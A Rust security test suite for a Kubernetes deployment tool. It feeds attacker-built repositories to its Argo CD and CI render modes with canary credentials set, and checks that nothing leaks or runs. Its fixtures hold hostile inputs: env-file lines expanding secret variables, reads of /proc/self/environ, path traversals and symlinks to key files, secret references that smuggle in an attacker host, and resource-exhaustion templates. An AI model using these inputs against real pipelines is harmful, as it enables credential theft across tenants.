//! A repository is an attacker until proven otherwise: each test renders an attacker's repository as
//! Argo CD's sidecar would (`kdeploy argocd generate`, always untrusted) or as CI would for a fork's
//! pull request (`kdeploy render --untrusted`), with canary credentials in the environment (an age
//! identity in a file and in SOPS_AGE_KEY, a Vault token, AWS keys), loopback servers that record every
//! request, and a victim tenant's checkout beside the attacker's. Every test asserts that no canary
//! reaches stdout, stderr or any server, and that no repository file is ever run.

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use support::{Run, VaultHome, run, tool_bin};

const VAULT_TOKEN: &str = "hvs.CANARY-vault-token-7f3a9c";
const AWS_KEY_ID: &str = "AKIACANARY7F3A9C0001";
const AWS_SECRET: &str = "CANARY-aws-secret-access-key-7f3a9c";
const AWS_SESSION: &str = "CANARY-aws-session-token-7f3a9c";
const VICTIM_SECRET: &str = "victim-db-password-CANARY-7f3a9c";

/// A loopback HTTP server that records every request it receives, headers included, and answers
/// each with an empty JSON object.
struct Recorder {
    url: String,
    port: u16,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buffer = vec![0u8; 65536];
                let read = stream.read(&mut buffer).unwrap_or(0);
                seen.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buffer[..read]).into_owned());
                let _ = stream
                    .write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}");
            }
        });
        Recorder {
            url: format!("http://127.0.0.1:{port}"),
            port,
            requests,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// The sidecar: one shared age identity, canary credentials, the operator's Vault (a recorder), an
/// attacker's server, and a victim tenant's checkout with a vault file only the sidecar can open.
struct Sidecar {
    home: VaultHome,
    key_file: PathBuf,
    secret_key: String,
    recipient: String,
    operator_vault: Recorder,
    attacker: Recorder,
    victim: PathBuf,
    repos: std::cell::Cell<usize>,
}

impl Sidecar {
    fn new() -> Sidecar {
        let home = VaultHome::new();
        std::fs::create_dir_all(home.path().join("sidecar")).unwrap();
        let (key_file, recipient) = home.identity("sidecar/keys.txt");
        let secret_key = std::fs::read_to_string(&key_file)
            .unwrap()
            .lines()
            .find(|l| l.starts_with("AGE-SECRET-KEY-"))
            .unwrap()
            .to_owned();
        let victim = home.path().join("victim");
        std::fs::create_dir_all(&victim).unwrap();
        std::fs::write(
            victim.join("secrets.sops.yaml"),
            format!("db:\n  password: {VICTIM_SECRET}\n"),
        )
        .unwrap();
        run(home
            .kdeploy()
            .current_dir(&victim)
            .args(["vault", "encrypt", "secrets.sops.yaml", "-r", &recipient]))
        .ok();
        std::fs::write(victim.join(".envrc"), format!("export VICTIM={VICTIM_SECRET}\n")).unwrap();
        std::fs::write(victim.join("values.yaml"), format!("password: {VICTIM_SECRET}\n")).unwrap();
        Sidecar {
            home,
            key_file,
            secret_key,
            recipient,
            operator_vault: Recorder::start(),
            attacker: Recorder::start(),
            victim,
            repos: std::cell::Cell::new(0),
        }
    }

    /// A fresh attacker repository holding `files`.
    fn repo(&self, files: &[(&str, &str)]) -> PathBuf {
        self.repos.set(self.repos.get() + 1);
        let dir = self.home.path().join(format!("attacker-{}", self.repos.get()));
        for (name, text) in files {
            let path = dir.join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(
                path,
                text.replace("@ATTACKER@", &self.attacker.url)
                    .replace("@VICTIM@", &self.victim.display().to_string()),
            )
            .unwrap();
        }
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    /// kdeploy in `repo` with the sidecar's environment.
    fn kdeploy(&self, repo: &Path) -> Command {
        let mut command = self.home.kdeploy();
        self.environment(&mut command, repo);
        command
    }

    fn environment(&self, command: &mut Command, repo: &Path) {
        command
            .current_dir(repo)
            .env("SOPS_AGE_KEY_FILE", &self.key_file)
            .env("SOPS_AGE_KEY", &self.secret_key)
            .env("VAULT_ADDR", &self.operator_vault.url)
            .env("VAULT_TOKEN", VAULT_TOKEN)
            .env("AWS_ACCESS_KEY_ID", AWS_KEY_ID)
            .env("AWS_SECRET_ACCESS_KEY", AWS_SECRET)
            .env("AWS_SESSION_TOKEN", AWS_SESSION)
            .env("AWS_REGION", "us-east-1")
            .env("AWS_ENDPOINT_URL", &self.operator_vault.url)
            .env("ARGOCD_APP_NAME", "attack")
            .env("ARGOCD_APP_NAMESPACE", "attack");
    }

    /// `kdeploy argocd generate` in `repo`, as the plugin runs it.
    fn generate(&self, repo: &Path) -> Run {
        run(self.kdeploy(repo).args(["argocd", "generate"]))
    }

    fn canaries(&self) -> Vec<String> {
        let mut canaries: Vec<String> = [
            self.secret_key.as_str(),
            VAULT_TOKEN,
            AWS_KEY_ID,
            AWS_SECRET,
            AWS_SESSION,
            VICTIM_SECRET,
        ]
        .iter()
        .map(|c| c.to_string())
        .collect();
        let encoded: Vec<String> = canaries
            .iter()
            .map(|c| base64::engine::general_purpose::STANDARD.encode(c))
            .collect();
        canaries.extend(encoded);
        canaries
    }

    /// No canary on stdout or stderr, and none at any server.
    fn assert_no_leak(&self, what: &str, out: &Run) {
        for canary in self.canaries() {
            assert!(
                !out.stdout.contains(&canary),
                "{what}: a canary on stdout:\n{}",
                out.stdout
            );
            assert!(
                !out.stderr.contains(&canary),
                "{what}: a canary on stderr:\n{}",
                out.stderr
            );
            for request in self.operator_vault.requests().iter().chain(&self.attacker.requests()) {
                assert!(
                    !request.contains(&canary),
                    "{what}: a canary sent to a server:\n{request}"
                );
            }
        }
    }

    /// The attack was refused: exit 2, nothing on stdout, the reason on stderr, nothing leaked.
    fn assert_refused(&self, what: &str, out: &Run, reason: &str) {
        self.assert_no_leak(what, out);
        assert_eq!(
            out.code, 2,
            "{what}: expected a refusal; stdout:\n{}\nstderr:\n{}",
            out.stdout, out.stderr
        );
        assert!(out.stdout.is_empty(), "{what}: stdout should be empty:\n{}", out.stdout);
        assert!(
            out.stderr.contains(reason),
            "{what}: expected `{reason}` in:\n{}",
            out.stderr
        );
    }
}

const CONFIG_MAP: &str =
    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  k: \"{{ values.k | default(value='v') }}\"\n";

#[test]
fn programs_the_repository_names_are_never_run() {
    let sidecar = Sidecar::new();
    for (tool, script, source) in [
        ("kustomize", "build", "sources: [{kustomize: k}]"),
        ("helm", "template", "sources: [{helm: {chart: chart}}]"),
    ] {
        let marker = sidecar.home.path().join(format!("ran-{tool}"));
        let payload = format!("touch {}\necho '{{}}'\n", marker.display());
        let repo = sidecar.repo(&[
            (
                "kdeploy.yaml",
                &format!("name: attack\ntools: {{{tool}: /bin/sh}}\n{source}\n"),
            ),
            (script, &payload),
            ("k/kustomization.yaml", "resources: []\n"),
            ("chart/Chart.yaml", "apiVersion: v2\nname: chart\nversion: 0.1.0\n"),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_refused(tool, &out, "`tools:` names programs to run");
        assert!(!marker.exists(), "{tool}: the repository's script ran");
    }
    // A program on PATH inside the checkout (PATH=.:…) is passed over too.
    let marker = sidecar.home.path().join("ran-path");
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\nsources: [{kustomize: k}]\n"),
        ("k/kustomization.yaml", "resources: []\n"),
        ("kustomize", &format!("#!/bin/sh\ntouch {}\n", marker.display())),
        ("kubectl", &format!("#!/bin/sh\ntouch {}\n", marker.display())),
    ]);
    for name in ["kustomize", "kubectl"] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(repo.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!(".:{}:/usr/bin:/bin", repo.display());
    let out = run(sidecar.kdeploy(&repo).env("PATH", path).args(["argocd", "generate"]));
    sidecar.assert_no_leak("PATH", &out);
    assert!(!marker.exists(), "a program from the checkout ran through PATH");
}

#[test]
fn templates_never_see_the_sidecars_credentials_or_environment() {
    let sidecar = Sidecar::new();
    for (expression, reason) in [
        (
            "env.SOPS_AGE_KEY",
            "`SOPS_AGE_KEY` is a credential kdeploy reads itself",
        ),
        ("env.SOPS_AGE_KEY_FILE", "`SOPS_AGE_KEY_FILE` is a credential"),
        ("env.VAULT_TOKEN", "`VAULT_TOKEN` is a credential"),
        ("env.AWS_SECRET_ACCESS_KEY", "`AWS_SECRET_ACCESS_KEY` is a credential"),
        ("env.HOME", "`HOME` is not given to templates in untrusted mode"),
        ("env.SOPS_AGE_KEY | int", "is a credential"),
    ] {
        let template =
            format!("apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: c}}\ndata:\n  k: \"{{{{ {expression} }}}}\"\n");
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", "name: attack\ntemplates: [t]\n"),
            ("t/c.yaml", &template),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_refused(expression, &out, reason);
    }
    // The whole map serialised holds only Argo CD's variables.
    let template = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  k: \"{{ env | to_json }}\"\n";
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\ntemplates: [t]\n"),
        ("t/c.yaml", template),
    ]);
    let out = sidecar.generate(&repo).ok();
    sidecar.assert_no_leak("env | to_json", &out);
    assert!(out.stdout.contains("ARGOCD_APP_NAME"), "{}", out.stdout);
    assert!(
        !out.stdout.contains("HOME") && !out.stdout.contains("PATH"),
        "{}",
        out.stdout
    );
    // throw() with a credential cannot name it: it is not there to read.
    let template = "{{ throw(message=env.VAULT_TOKEN) }}\n";
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\ntemplates: [t]\n"),
        ("t/c.yaml", template),
    ]);
    sidecar.assert_refused("throw", &sidecar.generate(&repo), "`VAULT_TOKEN` is a credential");
}

#[test]
fn env_files_cannot_expand_or_read_what_the_sidecar_holds() {
    let sidecar = Sidecar::new();
    let cases: Vec<(&str, String, &str)> = vec![
        (
            ".env",
            "A=${SOPS_AGE_KEY}\n".into(),
            "the env file expands $SOPS_AGE_KEY",
        ),
        (".env", "A=x$VAULT_TOKEN\n".into(), "the env file expands $VAULT_TOKEN"),
        (
            ".env",
            "A=$HOME\n".into(),
            "`HOME` is not given to templates in untrusted mode",
        ),
        (
            ".envrc",
            "export A=$AWS_SECRET_ACCESS_KEY\n".into(),
            "the env file expands $AWS_SECRET_ACCESS_KEY",
        ),
        (
            ".envrc",
            "export A=${VAULT_TOKEN:-x}\n".into(),
            "the env file expands $VAULT_TOKEN",
        ),
        (".envrc", "dotenv /proc/self/environ\n".into(), "outside the repository"),
        (
            ".envrc",
            "source_env @VICTIM@/.envrc\n".into(),
            "outside the repository",
        ),
        (".envrc", "source_env ../victim\n".into(), "outside the repository"),
        (
            ".envrc",
            "source_up\n".into(),
            "source_up: no .envrc in a parent folder",
        ),
    ];
    // source_up must stop at the checkout: put an .envrc holding a canary right above it.
    std::fs::write(
        sidecar.home.path().join(".envrc"),
        format!("export A={VICTIM_SECRET}\n"),
    )
    .unwrap();
    for (file, text, reason) in cases {
        let template = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  k: \"{{ env.A }}\"\n";
        let repo = sidecar.repo(&[
            (
                "kdeploy.yaml",
                &format!("name: attack\ntemplates: [t]\nenv_files: [{file}]\n"),
            ),
            ("t/c.yaml", template),
            (file, &text),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_refused(&text, &out, reason);
    }
}

#[test]
fn no_path_the_repository_names_leaves_it() {
    let sidecar = Sidecar::new();
    let key = sidecar.key_file.display().to_string();
    let victim = sidecar.victim.display().to_string();
    let t = ("t/c.yaml", CONFIG_MAP);
    let cases: Vec<(String, &str)> = vec![
        (format!("templates: [t]\nvalues: [{key}]\n"), "values file"),
        (
            "templates: [t]\nvalues: [../victim/values.yaml]\n".into(),
            "values file",
        ),
        (
            "templates: [t]\nvalues: [/dev/zero]\n".into(),
            "values file /dev/zero is outside",
        ),
        (
            "templates: [t]\nenv_files: [/proc/self/environ]\n".into(),
            "env file /proc/self/environ is outside",
        ),
        (format!("templates: [{victim}]\n"), "templates"),
        ("templates: [../victim]\n".into(), "templates"),
        (format!("sources: [{{manifests: {victim}}}]\n"), "manifests"),
        ("sources: [{manifests: /etc}]\n".into(), "manifests"),
        (
            "templates: [t]\nsecrets: [../victim/secrets.sops.yaml]\n".into(),
            "vault file",
        ),
        (format!("sources: [{{kustomize: {victim}}}]\n"), "kustomization"),
        (format!("sources: [{{helm: {{chart: {victim}}}}}]\n"), "chart"),
        (
            format!("sources: [{{helm: {{chart: chart, values_files: [{victim}/values.yaml]}}}}]\n"),
            "chart values file",
        ),
        // Validation's own inputs: a schema folder and a values schema.
        (format!("templates: [t]\nschemas: [{victim}]\n"), "schema folder"),
        ("templates: [t]\nschemas: [/etc]\n".into(), "schema folder"),
        (format!("templates: [t]\nvalues_schema: {key}\n"), "values schema"),
    ];
    for (config, reason) in cases {
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", &format!("name: attack\n{config}")),
            t,
            ("chart/Chart.yaml", "apiVersion: v2\nname: chart\nversion: 0.1.0\n"),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_refused(&config, &out, reason);
        assert!(
            out.stderr.contains("outside the repository"),
            "{config}: {}",
            out.stderr
        );
    }
    // Symlinks: a project file, a template, a values file and a folder pointing out of the checkout.
    let links: [(&str, PathBuf, &str); 4] = [
        ("kdeploy.yaml", sidecar.victim.join("values.yaml"), "project file"),
        ("t/evil.yaml", sidecar.victim.join("values.yaml"), "template"),
        ("values.yaml", sidecar.key_file.clone(), "values file"),
        ("t/victim", sidecar.victim.clone(), "template folder"),
    ];
    for (name, target, reason) in links {
        let repo = sidecar.repo(&[("t/c.yaml", CONFIG_MAP)]);
        if name != "kdeploy.yaml" {
            std::fs::write(
                repo.join("kdeploy.yaml"),
                "name: attack\ntemplates: [t]\nvalues: [values.yaml]\n",
            )
            .unwrap();
            if name != "values.yaml" {
                std::fs::write(repo.join("values.yaml"), "k: v\n").unwrap();
            }
        }
        std::os::unix::fs::symlink(&target, repo.join(name)).unwrap();
        let out = sidecar.generate(&repo);
        sidecar.assert_refused(name, &out, reason);
    }
    // A kustomization in the checkout whose base lies outside it, or is remote.
    for resource in [
        victim.clone(),
        "../../../victim".into(),
        "https://github.com/x/y//base?ref=v1".into(),
    ] {
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", "name: attack\nsources: [{kustomize: k/overlay}]\n"),
            ("k/overlay/kustomization.yaml", &format!("resources: [{resource}]\n")),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_no_leak(&resource, &out);
        assert_eq!(out.code, 2, "{resource}: {}", out.stderr);
        assert!(
            out.stderr.contains("outside the repository") || out.stderr.contains("is remote"),
            "{}",
            out.stderr
        );
    }
}

#[test]
fn credentials_go_only_to_the_operators_addresses() {
    let sidecar = Sidecar::new();
    let attacker = &sidecar.attacker.url;
    let port = sidecar.attacker.port;
    for value in [
        format!("ref+vault://secret/app?address={attacker}#/password"),
        format!("ref+awssecrets://app?region=x@127.0.0.1:{port}/#/password"),
        format!("ref+awsssm:///app?region=us-east-1.127.0.0.1:{port}/x"),
    ] {
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", "name: attack\ntemplates: [t]\nvalues: [values.yaml]\n"),
            ("values.yaml", &format!("k: \"{value}\"\n")),
            ("t/c.yaml", CONFIG_MAP),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_no_leak(&value, &out);
        assert_eq!(out.code, 2, "{value}: {}", out.stderr);
        assert!(
            sidecar.attacker.requests().is_empty(),
            "{value}: the attacker's server was asked: {:?}",
            sidecar.attacker.requests()
        );
    }
    // A vault file whose transit key names the attacker's address, and one whose KMS ARN smuggles a host.
    for stanza in [
        format!(
            "    hc_vault:\n        - vault_address: {attacker}\n          engine_path: transit\n          key_name: app\n          created_at: \"2026-01-01T00:00:00Z\"\n          enc: vault:v1:AAAA\n"
        ),
        format!(
            "    kms:\n        - arn: arn:aws:kms:x@127.0.0.1:{port}/:111122223333:key/1\n          created_at: \"2026-01-01T00:00:00Z\"\n          enc: AAAA\n          aws_profile: \"\"\n"
        ),
    ] {
        let file = format!(
            "token: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAA==,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\nsops:\n{stanza}    lastmodified: \"2026-01-01T00:00:00Z\"\n    mac: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAA==,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]\n    version: 3.9.0\n"
        );
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", "name: attack\ntemplates: [t]\nsecrets: [s.sops.yaml]\n"),
            ("s.sops.yaml", &file),
            ("t/c.yaml", CONFIG_MAP),
        ]);
        let out = sidecar.generate(&repo);
        sidecar.assert_no_leak("vault file", &out);
        assert_eq!(out.code, 2, "{}", out.stderr);
        assert!(
            sidecar.attacker.requests().is_empty(),
            "the attacker's server was asked: {:?}",
            sidecar.attacker.requests()
        );
    }
    // A download from inside the network is refused before any connection.
    let repo = sidecar.repo(&[(
        "kdeploy.yaml",
        &format!(
            "name: attack\nsources: [{{url: \"https://127.0.0.1:{port}/x.yaml\", sha256: {}}}]\n",
            "0".repeat(64)
        ),
    )]);
    let out = sidecar.generate(&repo);
    sidecar.assert_refused("url", &out, "loopback, link-local or private address");
    assert!(sidecar.attacker.requests().is_empty());
}

/// `kdeploy argocd generate` under `ulimit -v` (1 GiB of address space), with a 5 s render deadline, timed.
fn bounded(sidecar: &Sidecar, repo: &Path) -> (Run, Duration) {
    let binary = env!("CARGO_BIN_EXE_kdeploy");
    let mut shell = Command::new("sh");
    for (name, _) in std::env::vars() {
        if name.starts_with("KDEPLOY_") || support::is_store_credential(&name) {
            shell.env_remove(name);
        }
    }
    sidecar.home.isolate(&mut shell);
    sidecar.environment(&mut shell, repo);
    shell
        .env("KDEPLOY_RENDER_TIMEOUT", "5")
        .args(["-c", &format!("ulimit -v 1048576; exec {binary} argocd generate")]);
    let started = Instant::now();
    let out = run(&mut shell);
    (out, started.elapsed())
}

#[test]
fn hostile_inputs_fail_within_bounds_of_time_and_memory() {
    let sidecar = Sidecar::new();
    let header = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n";
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "nested loops",
            format!(
                "{header}{{% for i in range(end=100000) %}}{{% for j in range(end=100000) %}}{{% endfor %}}{{% endfor %}}  k: v\n"
            ),
            "took longer than 5s",
        ),
        (
            "printing loops",
            format!(
                "{header}  k: |\n{{% for i in range(end=100000) %}}{{% for j in range(end=100000) %}}    {{{{ j }}}}\n{{% endfor %}}{{% endfor %}}"
            ),
            // The expression budget, or in a slow (debug) build the deadline, whichever comes first.
            "",
        ),
        (
            "string doubling",
            format!(
                "{header}{{% set_global s = \"xxxxxxxxxxxxxxxx\" %}}{{% for i in range(end=40) %}}{{% set_global s = s ~ s %}}{{% endfor %}}  k: \"{{{{ s | length }}}}\"\n"
            ),
            "MiB of memory",
        ),
    ];
    for (what, template, reason) in cases {
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", "name: attack\ntemplates: [t]\n"),
            ("t/c.yaml", &template),
        ]);
        let (out, took) = bounded(&sidecar, &repo);
        sidecar.assert_refused(what, &out, reason);
        if reason.is_empty() {
            assert!(
                out.stderr.contains("the render's budget") || out.stderr.contains("took longer than 5s"),
                "{what}: {}",
                out.stderr
            );
        }
        assert!(took < Duration::from_secs(60), "{what} took {took:?}");
    }
    // A 1 GiB sparse file (a few KiB on disk) as a template and as a values file.
    for (config, name) in [
        ("templates: [t]\n", "t/big.yaml"),
        ("templates: [t]\nvalues: [big.yaml]\n", "big.yaml"),
    ] {
        let repo = sidecar.repo(&[
            ("kdeploy.yaml", &format!("name: attack\n{config}")),
            ("t/c.yaml", CONFIG_MAP),
        ]);
        let file = std::fs::File::create(repo.join(name)).unwrap();
        file.set_len(1 << 30).unwrap();
        let (out, took) = bounded(&sidecar, &repo);
        sidecar.assert_refused(name, &out, "over the limit of");
        assert!(
            out.stderr.len() < 4096,
            "the error echoes the file: {} bytes",
            out.stderr.len()
        );
        assert!(took < Duration::from_secs(60), "{name} took {took:?}");
    }
    // Symlinks that make a folder contain itself twice: each folder is walked once.
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\nsources: [{manifests: m}]\n"),
        ("m/c.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n"),
    ]);
    std::os::unix::fs::symlink(".", repo.join("m/a")).unwrap();
    std::os::unix::fs::symlink(".", repo.join("m/b")).unwrap();
    let (out, took) = bounded(&sidecar, &repo);
    sidecar.assert_no_leak("symlink loop", &out);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout.matches("kind: ConfigMap").count(), 1, "{}", out.stdout);
    assert!(took < Duration::from_secs(60));
}

#[test]
fn a_benign_project_still_renders_with_its_own_secrets() {
    let sidecar = Sidecar::new();
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: shop\ntemplates: [t]\nsecrets: [secrets.sops.yaml]\nenv_files: [.env]\nvalues: [values.yaml]\n"),
        ("values.yaml", "replicas: 2\n"),
        (".env", "TIER=gold\nGREETING=hi-$TIER\n"),
        ("secrets.sops.yaml", "db:\n  password: shop-own-password-42\n"),
        (
            "t/app.yaml",
            "apiVersion: v1\nkind: Secret\nmetadata: {name: db}\nstringData:\n  password: \"{{ secrets.db.password }}\"\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  replicas: \"{{ values.replicas }}\"\n  greeting: \"{{ env.GREETING }}\"\n  app: \"{{ env.ARGOCD_APP_NAME }}\"\n",
        ),
    ]);
    run(sidecar.home.kdeploy().current_dir(&repo).args([
        "vault",
        "encrypt",
        "secrets.sops.yaml",
        "-r",
        &sidecar.recipient,
    ]))
    .ok();
    let out = sidecar.generate(&repo).ok();
    sidecar.assert_no_leak("benign", &out);
    assert!(out.stdout.contains("shop-own-password-42"), "{}", out.stdout);
    assert!(
        out.stdout.contains("greeting: hi-gold") && out.stdout.contains("app: attack"),
        "{}",
        out.stdout
    );
    // The same project through `render --untrusted`, as CI renders a fork's pull request.
    let out = run(sidecar.kdeploy(&repo).args(["render", "--untrusted"])).ok();
    assert!(out.stdout.contains("shop-own-password-42"), "{}", out.stdout);
    // A victim's vault file copied into the repository opens with the shared identity: what one
    // shared identity means (README: Running on untrusted input), and why files can be bound.
    std::fs::copy(sidecar.victim.join("secrets.sops.yaml"), repo.join("secrets.sops.yaml")).unwrap();
    let out = sidecar.generate(&repo);
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[test]
fn helm_values_and_charts_from_the_repository_see_no_credentials() {
    let sidecar = Sidecar::new();
    let helm = tool_bin("helm");
    let repo = sidecar.repo(&[
        (
            "kdeploy.yaml",
            "name: attack\nsources: [{helm: {chart: chart, values: {token: \"{{ env.VAULT_TOKEN }}\"}}}]\n",
        ),
        ("chart/Chart.yaml", "apiVersion: v2\nname: chart\nversion: 0.1.0\n"),
        (
            "chart/templates/c.yaml",
            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  token: {{ .Values.token | quote }}\n",
        ),
    ]);
    let path = format!(
        "{}:{}",
        helm.parent().unwrap().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = run(sidecar.kdeploy(&repo).env("PATH", &path).args(["argocd", "generate"]));
    sidecar.assert_refused("helm values", &out, "`VAULT_TOKEN` is a credential");
    // A chart folder with a symlink out of the checkout is refused before helm reads it.
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\nsources: [{helm: {chart: chart}}]\n"),
        ("chart/Chart.yaml", "apiVersion: v2\nname: chart\nversion: 0.1.0\n"),
    ]);
    std::fs::create_dir_all(repo.join("chart/templates")).unwrap();
    std::os::unix::fs::symlink(&sidecar.key_file, repo.join("chart/templates/key.yaml")).unwrap();
    let out = run(sidecar.kdeploy(&repo).env("PATH", &path).args(["argocd", "generate"]));
    sidecar.assert_refused("chart symlink", &out, "outside the repository");
}

#[test]
fn apply_refuses_untrusted_mode_and_trusted_errors_quote_no_outside_file() {
    let sidecar = Sidecar::new();
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: shop\ntemplates: [t]\n"),
        ("t/c.yaml", CONFIG_MAP),
    ]);
    let out = run(sidecar.kdeploy(&repo).args(["apply", "--untrusted", "--yes"]));
    sidecar.assert_refused("apply", &out, "apply does not deploy an untrusted repository");
    // Trusted: a values file outside the repository that is not YAML (an age key) is named, not quoted.
    let key = sidecar.key_file.display().to_string();
    let repo = sidecar.repo(&[
        (
            "kdeploy.yaml",
            &format!("name: shop\ntemplates: [t]\nvalues: [{key}]\n"),
        ),
        ("t/c.yaml", CONFIG_MAP),
    ]);
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    let out = run(sidecar.kdeploy(&repo).args(["render"]));
    sidecar.assert_no_leak("trusted outside file", &out);
    assert_eq!(out.code, 2, "{}", out.stderr);
}

#[test]
fn a_vault_file_bound_to_its_repository_opens_for_no_other() {
    let sidecar = Sidecar::new();
    let victim_repo = "https://git.example.com/victim/shop.git";
    run(sidecar
        .home
        .kdeploy()
        .current_dir(&sidecar.victim)
        .args([
            "vault",
            "bind",
            "secrets.sops.yaml",
            "--repo",
            victim_repo,
            "--identity",
        ])
        .arg(&sidecar.key_file))
    .ok();
    let bound = std::fs::read_to_string(sidecar.victim.join("secrets.sops.yaml")).unwrap();
    assert!(
        bound.contains("kdeploy_bound_to: ") && bound.contains("kdeploy_binding_mac: "),
        "{bound}"
    );
    // sops still reads the bound file.
    let out = run(sidecar
        .home
        .sops(&sidecar.key_file)
        .arg("decrypt")
        .arg(sidecar.victim.join("secrets.sops.yaml")))
    .ok();
    assert!(out.stdout.contains(VICTIM_SECRET));

    let template =
        "apiVersion: v1\nkind: Secret\nmetadata: {name: s}\nstringData:\n  p: \"{{ secrets.db.password }}\"\n";
    let repo = sidecar.repo(&[
        ("kdeploy.yaml", "name: attack\ntemplates: [t]\nsecrets: [s.sops.yaml]\n"),
        ("t/s.yaml", template),
    ]);
    std::fs::write(repo.join("s.sops.yaml"), &bound).unwrap();
    let generate = |repository: &str, extra: &[(&str, &str)]| {
        let mut command = sidecar.kdeploy(&repo);
        command
            .env("ARGOCD_APP_SOURCE_REPO_URL", repository)
            .args(["argocd", "generate"]);
        for (name, value) in extra {
            command.env(name, value);
        }
        run(&mut command)
    };
    // Copied into the attacker's repository, it does not open.
    let out = generate("https://git.example.com/attacker/app.git", &[]);
    sidecar.assert_refused("a bound file elsewhere", &out, "not to this Application's repository");
    // In its own repository's Application it does (the URL compared as Argo CD may write it).
    let out = generate("https://GIT.example.com/victim/shop/", &[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains(VICTIM_SECRET));
    // An edited binding is refused, and so is an unbound file where the operator requires one.
    std::fs::write(
        repo.join("s.sops.yaml"),
        bound.replace(victim_repo, "https://git.example.com/attacker/app.git"),
    )
    .unwrap();
    let out = generate("https://git.example.com/attacker/app.git", &[]);
    sidecar.assert_refused("an edited binding", &out, "were changed outside kdeploy");
    run(sidecar
        .home
        .kdeploy()
        .current_dir(&sidecar.victim)
        .args(["vault", "bind", "secrets.sops.yaml", "--unbind", "--identity"])
        .arg(&sidecar.key_file))
    .ok();
    std::fs::copy(sidecar.victim.join("secrets.sops.yaml"), repo.join("s.sops.yaml")).unwrap();
    let out = generate(
        "https://git.example.com/attacker/app.git",
        &[("KDEPLOY_REQUIRE_BINDING", "1")],
    );
    sidecar.assert_refused("an unbound file", &out, "bound to no repository");
}
